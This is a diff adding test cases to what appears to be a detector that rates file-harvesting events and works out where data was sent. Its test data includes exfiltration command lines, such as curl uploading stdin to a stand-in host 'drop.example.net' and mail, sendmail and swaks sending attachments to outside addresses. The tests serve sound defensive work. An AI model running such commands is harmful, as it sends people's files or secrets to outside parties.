@@ -80,6 +80,11 @@ test('where no connection is recorded, a script of the person that reads is told
   assert.deepEqual(await severities(reads('/home/clerk/x.py', '/usr/bin/python3'), blind), ['informational']);
   assert.deepEqual(await severities(reads('/home/clerk/.cargo/bin/mailer'), blind), [], 'a mail program of the person');
   assert.deepEqual(await severities(reads('/usr/bin/mail-report', '/usr/bin/python3'), blind), [], 'of a package');
+  const called = ({ log, mine }: Facts): void => {
+    const script = log.shell('clerk').run('/home/clerk/x.sh', { by: '/bin/sh' });
+    script.run('/usr/bin/mail-report', { by: '/usr/bin/python3' }).read(mine.path);
+  };
+  assert.deepEqual(await severities(called, blind), [], 'whoever calls it');
 });
 
 test('a harvest of one session is one story, of another session another', async () => {
@@ -124,6 +129,7 @@ test('where it is known to have gone is looked at next, else what the session se
 test('whom or what the arguments name is where it went', async () => {
   for (const [line, destination] of [
     ['/usr/bin/curl https://drop.example.net/x -T -', 'https://drop.example.net/x'],
+    ['/usr/bin/curl -u me@here https://drop.example.net/x -T -', 'https://drop.example.net/x'],
     ['/usr/bin/mail x@example.net', 'x@example.net'],
     ['/usr/sbin/sendmail -fclerk@example.org x@example.net', 'x@example.net'],
     ['/usr/bin/swaks --attach @/tmp/a@b --to x@example.net', 'x@example.net'],
